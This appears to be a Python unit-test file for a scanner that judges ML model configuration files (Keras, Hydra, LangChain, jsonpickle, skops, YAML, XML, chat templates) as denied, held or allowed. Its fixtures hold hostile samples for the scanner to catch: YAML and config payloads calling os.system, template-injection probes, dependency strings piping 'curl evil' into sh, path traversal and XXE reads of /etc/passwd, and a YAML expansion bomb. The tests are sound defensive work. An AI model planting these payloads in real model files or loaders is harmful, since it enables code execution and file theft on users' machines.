"""Unit tests of scan.documents and its rules: what configuration makes a loader do."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from modelkeep.core.verdict import Decision, judged
from modelkeep.scan.rules import findings_of
from modelkeep.scan.settings import ScanSettings

SETTINGS = ScanSettings()


def layer(kind, module="keras.layers", **config):
    return {"module": module, "class_name": kind, "config": config, "registered_name": None}


def function(name, module):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def skops(loader, module, name, **content):
    return {"__loader__": loader, "__module__": module, "__class__": name, "content": content}


DENIED = {
    "lambda": layer("Lambda", function={"class_name": "__lambda__", "config": {"code": "4wEA"}}),
    "old lambda": layer("Lambda", function=["4wEAAAAAAAAA", None, None], function_type="lambda"),
    "1550": {"module": "subprocess", "class_name": "run", "config": {}, "registered_name": None},
    "function": function("system", "os"),
    "builtin": function("eval", "builtins"),
    "get_file": function("get_file", "keras.utils"),
    "get_file inside": function("get_file", "keras.src.utils.file_utils"),
    "unsafe": function("enable_unsafe_deserialization", "keras.config"),
    "load_model": function("load_model", "keras.models"),
    "vocabulary": layer("StringLookup", vocabulary="/etc/passwd"),
    "remote vocabulary": layer("TextVectorization", vocabulary="https://a.b/c"),
    "torch wrapper": layer("TorchModuleWrapper", module="keras.layers", module_="UEsDB"),
    "tfsm": layer("TFSMLayer", filepath="evil"),
    "hydra": {"model": {"_target_": "os.system", "command": "id"}},
    "hydra popen": {"_target_": "subprocess.Popen", "args": ["id"]},
    "hydra through": {"_target_": "torch.serialization.os.system"},
    "hydra hub": {"_target_": "torch.hub.load"},
    "hydra method": {"f": {"_target_": "hydra.utils.get_method", "path": "os.system"}},
    "hydra eval": {"_target_": "builtins.eval"},
    "hydra numpy": {"_target_": "numpy.load", "allow_pickle": True},
    "langchain": {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}},
    "langchain tool": {"lc": 1, "type": "constructor", "kwargs": {},
                       "id": ["langchain_experimental", "utilities", "PythonREPL"]},
    "chain": {"_type": "llm_bash_chain", "llm": {}},
    "jsonpickle": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]},
    "jsonpickle object": {"py/object": "subprocess.Popen"},
    "skops": skops("OperatorFuncNode", "builtins", "eval"),
    "skops method": skops("MethodNode", "sklearn.x", "y", func="__init__"),
    "skops os": skops("FunctionNode", "os", "system"),
    "template": {"chat_template": "{{ ''.__class__.__mro__ }}"},
    "named template": {"chat_template": [{"name": "d", "template": "{{ x.__class__ }}"}]},
    "requirement": {"dependencies": ["numpy; curl evil | sh"]},
    "transformer": [{"idx": 0, "name": "0", "path": "", "type": "os.system"}],
    "shard": {"weight_map": {"w": "../../etc/passwd"}},
    "artifact": {"flavors": {"python_function": {"loader_module": "mlflow.sklearn",
                                                 "model_path": "/etc/passwd"}}},
    "export": {"target": "torch.serialization.os.system", "inputs": [], "outputs": [],
               "metadata": {}},
}  # fmt: skip
HELD = {
    "auto_map": {"auto_map": {"AutoModel": "modeling.Model"}},
    "trust": {"trust_remote_code": True},
    "kernel": {"_attn_implementation": "someone/attention"},
    "zarr": {"filters": [{"id": "pickle"}]},
    "pipelines": {"custom_pipelines": {"x": {"impl": "code.Pipe"}}},
    "unknown target": {"_target_": "mycompany.models.Net"},
    "named lambda": layer("Lambda", function=function("relu", "keras.activations")),
    "own module": layer("Mine", module="mycompany.layers"),
}
ALLOWED = {
    "dense": layer("Dense", units=3, activation="relu", name="Lambda"),
    "model": layer("Sequential", module="keras", layers=[
        layer("Dense", kernel_initializer=layer("GlorotUniform", module="keras.initializers"))]),
    "functional": layer("Functional", module="keras.src.models.functional"),
    "activation": layer("Dense", activation=function("gelu", "keras.activations")),
    "registered": layer("Mine", module=None) | {"registered_name": "Custom>Mine"},
    "registered function": function("Mine>act", "builtins"),
    "list vocabulary": layer("StringLookup", vocabulary=["a", "b"]),
    "hydra torch": {"_target_": "torch.nn.Linear", "in_features": 1},
    "hydra nemo": {"_target_": "nemo.collections.asr.models.EncDecCTCModel"},
    "hydra gelu": {"_target_": "torch.nn.functional.gelu"},
    "hydra path": {"_target_": "pathlib.Path", "_args_": ["a"]},
    "langchain secret": {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]},
    "langchain chain": {"lc": 1, "type": "constructor", "kwargs": {},
                        "id": ["langchain", "chains", "retrieval_qa", "base", "RetrievalQA"]},
    "langchain prompt": {"lc": 1, "type": "constructor", "kwargs": {"template": "Hi {name}"},
                         "id": ["langchain_core", "prompts", "prompt", "PromptTemplate"]},
    "skops tree": skops("ObjectNode", "sklearn.tree._classes", "DecisionTreeClassifier"),
    "skops list": skops("ListNode", "builtins", "list"),
    "template": {"chat_template": "{% for m in messages %}{{ m['content'] }}{% endfor %}"},
    "shards": {"weight_map": {"w": "model-00001-of-00002.safetensors"}},
    "attention": {"_attn_implementation": "sdpa"},
    "config": {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "eos_token_id": 2},
    "vocabulary": {"__class__": 3, "_target_": 4, "os.system": 5, "{{": 6},
    "requirements": {"dependencies": ["numpy==2.0", 'x<2; python_version < "3.9"',
                                      "-r requirements.txt"]},
    "modules": [{"idx": 0, "name": "0", "path": "",
                 "type": "sentence_transformers.models.Pooling"}],
    "export": {"target": "torch.ops.aten.add.Tensor", "inputs": [], "outputs": [], "metadata": {}},
    "diffusers": {"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DModel"]},
}  # fmt: skip
YAML_DENIED = [
    "!!python/object/apply:os.system ['id']",
    "a: !!python/object/new:subprocess.Popen [[id]]",
    "!<tag:yaml.org,2002:python/object/apply:os.system> [id]",
    "%TAG !x! tag:yaml.org,2002:python/object/\n---\n!x!apply:os.system [id]",
    "a: !!python/name:os.system",
    "m:\n  _target_: os.system\n  command: id",
    "a: !apply:os.system [id]",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader []]",
    "flavors:\n  python_function:\n    loader_module: os",
    "dependencies:\n- pip:\n  - 'a; curl x | sh'",
    "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "\n".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 10)}]" for n in range(9)),
    "a: [",
]  # fmt: skip
YAML_ALLOWED = [
    "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl",
    "model:\n  _target_: torch.nn.Linear\n  in_features: 3",
    "name: env\ndependencies:\n- python=3.11\n- pip:\n  - mlflow==2.0\n  - scikit-learn>=1.3",
    "a: !!python/tuple [1, 2]\nb: &x {c: 1}\nd: *x",
    "defaults: &d {lr: 0.1}\nrun:\n  <<: *d",
    "args: !!python/object:argparse.Namespace {lr: 0.1}",
]


def decision(name, raw):
    return judged(findings_of(name, raw, SETTINGS)).decision


@pytest.mark.parametrize("what", DENIED)
@pytest.mark.parametrize("name", ["config.json", "anything"])
def test_a_document_that_makes_its_loader_act_is_denied(what, name):
    assert decision(name, json.dumps(DENIED[what]).encode()) is Decision.DENY


@pytest.mark.parametrize("what", HELD)
def test_a_document_that_asks_for_code_is_held(what):
    assert decision("config.json", json.dumps(HELD[what]).encode()) is Decision.HOLD


@pytest.mark.parametrize("what", ALLOWED)
@pytest.mark.parametrize("name", ["config.json", "anything"])
def test_a_document_as_libraries_write_it_is_allowed(what, name):
    assert decision(name, json.dumps(ALLOWED[what]).encode()) is Decision.ALLOW


def test_escapes_encodings_and_depth_hide_nothing():
    raw = json.dumps(DENIED["hydra"])
    escaped = raw.replace("_target_", "\\u005ftarget\\u005f")
    for each in (escaped.encode(), raw.encode("utf-16"), b"\xef\xbb\xbf" + raw.encode()):
        assert decision("config.json", each) is Decision.DENY
    assert decision("config.json", b"[" * 100_000) is Decision.DENY
    assert decision("data.json", (raw + "\n" + raw + "\n").encode()) is Decision.DENY


def test_a_key_that_stands_twice_is_a_finding():
    raw = b'{"_target_": "torch.nn.Linear", "_target_": "torch.nn.ReLU"}'
    assert decision("c.json", raw) is Decision.DENY
    assert decision("c.json", b'{"a": 1, "a": 2}') is Decision.HOLD


def test_what_is_named_as_a_document_and_is_none_is_denied():
    for name, raw in (("c.json", b"{cut"), ("c.json", b"\0\1\2\xff"), ("c.yaml", b"\xff\0\1")):
        assert decision(name, raw) is Decision.DENY
    assert decision("README.md", b"# {x} !!python/object/apply:os.system\n\t- [") is Decision.ALLOW


@pytest.mark.parametrize("text", YAML_DENIED)
def test_yaml_that_acts_is_denied(text):
    assert decision("m.yaml", text.encode()) is Decision.DENY


@pytest.mark.parametrize("text", YAML_ALLOWED)
def test_yaml_as_tools_write_it_is_allowed(text):
    assert decision("MLmodel", text.encode()) is Decision.ALLOW


def test_xml_with_entities_is_denied_and_plain_xml_is_not():
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML/>'
    assert decision("m.pmml", entity) is Decision.DENY
    assert decision("m", entity.decode().encode("utf-16")) is Decision.DENY
    far = b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil/x.dtd"><a/>'
    assert decision("m.pmml", far) is Decision.DENY
    assert decision("m.pmml", b'<?xml version="1.0"?><PMML version="4.4"/>') is Decision.ALLOW
    known = b'<!DOCTYPE svg PUBLIC "x" "http://www.w3.org/svg11.dtd"><svg/>'
    assert decision("m.svg", known) is Decision.ALLOW


def test_source_code_is_held_by_its_name_and_templates_are_parsed():
    assert decision("modeling_x.py", b"import os\n") is Decision.HOLD
    assert decision("chat_template.jinja", b"{{ ''.__class__ }}") is Decision.DENY
    assert decision("chat_template.jinja", b"{{ messages[0].content }}") is Decision.ALLOW


@given(st.sampled_from([*DENIED.values(), *ALLOWED.values()]), st.integers(0, 300), st.binary())
@settings(deadline=None, max_examples=150)
def test_no_change_of_a_document_makes_the_scanner_raise(document, at, new):
    raw = json.dumps(document).encode()
    findings_of("config.json", raw[:at] + new + raw[at + len(new) :], SETTINGS)


@given(st.sampled_from(YAML_DENIED + YAML_ALLOWED), st.integers(0, 200), st.binary(max_size=8))
@settings(deadline=None, max_examples=150)
def test_no_change_of_yaml_makes_the_scanner_raise(text, at, new):
    raw = text.encode()
    findings_of("c.yaml", raw[:at] + new + raw[at + len(new) :], SETTINGS)
